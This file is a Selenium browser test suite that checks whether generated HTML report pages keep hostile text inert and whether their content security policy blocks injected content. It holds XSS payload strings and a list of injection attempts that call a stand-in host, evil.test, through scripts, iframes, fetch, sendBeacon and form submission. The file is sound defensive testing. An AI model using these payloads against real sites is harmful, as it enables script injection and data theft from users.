"""Hostile texts in every field of both pages, in a real browser: none runs, asks for anything, or looks like less."""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile_pages import ATTACKS, hostile, report, study
from selenium import webdriver
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select

from .conftest import Ledger

CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), ""
)
DRIVER = shutil.which("chromedriver") or ""
pytestmark = pytest.mark.skipif(
    not (CHROMIUM and DRIVER),
    reason="needs chromium and chromedriver (Debian's packages of these names)",
)

WATCH = """
window.seen = [];
window.run = () => window.seen.push("a text ran as a script");
addEventListener("securitypolicyviolation", (e) => window.seen.push(`${e.violatedDirective} ${e.blockedURI}`));
"""
"""Before any script of a page: what its policy stops is seen, and what hostile texts call is there to be called."""

FOREIGN = "img, iframe, object, embed, base, link, form, a[href], meta[http-equiv=refresh], svg a, [onerror], [onload]"
"""Elements and attributes that no page has, unless a text became one."""


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        *(
            "headless=new",
            "no-sandbox",
            "disable-gpu",
            "disable-dev-shm-usage",
            "window-size=1280,1600",
        ),
        *(
            "disable-background-networking",
            "disable-component-update",
            "disable-sync",
            "no-first-run",
        ),
    ):
        options.add_argument(f"--{flag}")
    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    options.set_capability("unhandledPromptBehavior", "ignore")
    driver = webdriver.Chrome(options=options, service=Service(DRIVER))
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
    yield driver
    driver.quit()


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    place = tmp_path_factory.mktemp("pages")
    found = {}
    for name, html in (("report", report(place)), ("study", study())):
        found[name] = place / f"{name}.html"
        found[name].write_text(html, encoding="utf-8")
    return found


def open_page(browser: webdriver.Chrome, page: Path) -> None:
    browser.get_log("performance")
    browser.get_log("browser")
    browser.get(page.as_uri())


def requests_of(browser: webdriver.Chrome, *, stopped: bool = False) -> list[str]:
    """Every address that the page asked for, but those within it, and if wanted those that the policy stopped."""
    messages = [json.loads(entry["message"])["message"] for entry in browser.get_log("performance")]
    sent = {}
    for message in messages:
        own = message["params"]
        if message["method"] == "Network.requestWillBeSent":
            sent[own["requestId"]] = own["request"]["url"]
        if stopped and own.get("blockedReason") == "csp":
            sent.pop(own["requestId"], None)
    return [url for url in sent.values() if not url.startswith("data:")]


def check_nothing_happened(browser: webdriver.Chrome, page: Path) -> None:
    with pytest.raises(NoAlertPresentException):
        _ = browser.switch_to.alert.text
    assert browser.execute_script("return window.seen") == []
    assert requests_of(browser) == [page.as_uri()]
    assert browser.get_log("browser") == []
    assert browser.find_elements(By.CSS_SELECTOR, FOREIGN) == []
    assert browser.current_url == page.as_uri()


def shown_rows(table: WebElement) -> list[WebElement]:
    return table.find_elements(By.CSS_SELECTOR, "tbody > tr:not(.child)")


def text_of(browser: webdriver.Chrome, element: WebElement) -> str:
    """The characters themselves: what is drawn may be reordered and wrapped."""
    found: str = browser.execute_script("return arguments[0].textContent", element)
    return found


@pytest.mark.parametrize("name", ["report", "study"])
def test_hostile_texts_stay_texts(
    browser: webdriver.Chrome, pages: dict[str, Path], name: str, ledger: Ledger
) -> None:
    page = pages[name]
    open_page(browser, page)
    tables = browser.find_elements(By.CSS_SELECTOR, "table.dataTable")
    assert len(tables) == (2 if name == "report" else 1)
    for table in tables:
        use(browser, table)
    body = text_of(browser, browser.find_element(By.TAG_NAME, "body"))
    fields = {"reference", "path", "response", "whole", "document", "file.txt", "split"}
    for field in fields | ({"iteration_1", "name", "other"} if name == "report" else {"system"}):
        assert hostile(field) in body, field
    check_labels(browser)
    check_nothing_happened(browser, page)
    ledger.add("hostile texts in every field of a page", survived=True, cases=len(ATTACKS))


def use(browser: webdriver.Chrome, table: WebElement) -> None:
    """Search, filter, sort, turn pages, and open every row of one table."""
    container = table.find_element(By.XPATH, "./ancestor::div[contains(@class, 'dt-container')]")
    search = container.find_element(By.CSS_SELECTOR, "input[type=search]")

    def found_by(words: str) -> int:
        search.clear()
        search.send_keys(words)
        search.send_keys(Keys.ENTER)
        info = container.find_element(By.CSS_SELECTOR, ".dt-info")
        browser.execute_script("return new Promise(requestAnimationFrame)")
        counts = [text for text in info.text.split() if text.isdigit()]
        return int(counts[2])

    assert found_by("user-03") == 1
    assert text_of(browser, shown_rows(table)[0]).startswith(hostile("user-03")[:80])
    # what stands in the texts is found as it stands there
    for words in (
        "<img src=x onerror=run()>&amp;",
        "&lt;img",
        "</script><script>run()",
        "{{ 7 * 7 }}",
    ):
        assert found_by(words) == 12, words
    assert found_by("&nbsp;") == found_by("49") == 0
    assert found_by(" ") == 12
    for heading in table.find_elements(By.CSS_SELECTOR, "thead th"):
        for _ in range(2):
            browser.execute_script("arguments[0].click()", heading)
    length = Select(container.find_element(By.CSS_SELECTOR, ".dt-length select"))
    pager = container.find_elements(By.CSS_SELECTOR, ".dt-paging button")
    assert len(pager) > 2
    for number in range(len(pager)):
        button = container.find_elements(By.CSS_SELECTOR, ".dt-paging button")[number]
        browser.execute_script("arguments[0].click()", button)
    for option in ("10", "25", "100"):
        length.select_by_value(option)
    assert len(shown_rows(table)) == 12
    for row in shown_rows(table):
        if "dt-hasChild" not in (row.get_attribute("class") or ""):
            browser.execute_script("arguments[0].click()", row)
    children = table.find_elements(By.CSS_SELECTOR, "tr.child, td.child")
    assert len(children) >= 12
    for summary in table.find_elements(By.CSS_SELECTOR, "td.child summary"):
        browser.execute_script("arguments[0].click()", summary)
    texts = text_of(browser, table)
    for number in range(12):
        assert hostile(f"request-{number:02}") in texts


def check_labels(browser: webdriver.Chrome) -> None:
    """Legends, axes and hover texts of the plots."""
    plots = browser.find_elements(By.CSS_SELECTOR, ".js-plotly-plot")
    assert len(plots) >= 2
    shown = ""
    for plot in plots:
        browser.execute_script(
            "const [plot] = arguments; for (const curve of plot.data.keys()) Plotly.Fx.hover(plot, [{ curveNumber: curve, pointNumber: 0 }])",
            plot,
        )
        shown += text_of(browser, plot)
    assert ATTACKS[6] in shown
    assert "<script>run()</script>" in shown


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.test/a onerror=run()>')",
        "document.body.insertAdjacentHTML('beforeend', '<p onclick=run()>x</p>'); document.body.lastChild.click()",
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'run()' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.test/b.js' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['run()'])) }))",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.test/c.css' }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.test/d' }))",
        "document.body.append(Object.assign(document.createElement('a'), { href: 'javascript:run()' })); document.body.lastChild.click()",
        "setTimeout(() => (0, eval)('run()'))",
        "fetch('https://evil.test/e').catch(() => {})",
        "navigator.sendBeacon('https://evil.test/f', 'x')",
        "const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/g' }); document.body.append(form); form.submit()",
    ],
)
def test_the_policy_stops_what_would_get_into_the_page(
    browser: webdriver.Chrome, pages: dict[str, Path], attempt: str, ledger: Ledger
) -> None:
    page = pages["study"]
    open_page(browser, page)
    browser.execute_script(attempt)
    deadline = time.monotonic() + 5
    seen: list[Any] = []
    while not seen and time.monotonic() < deadline:
        seen = browser.execute_script("return window.seen")
        time.sleep(0.05)
    assert seen
    assert "a text ran as a script" not in seen
    assert requests_of(browser, stopped=True) == [page.as_uri()]
    ledger.add("scripts and requests put into a page", survived=True)
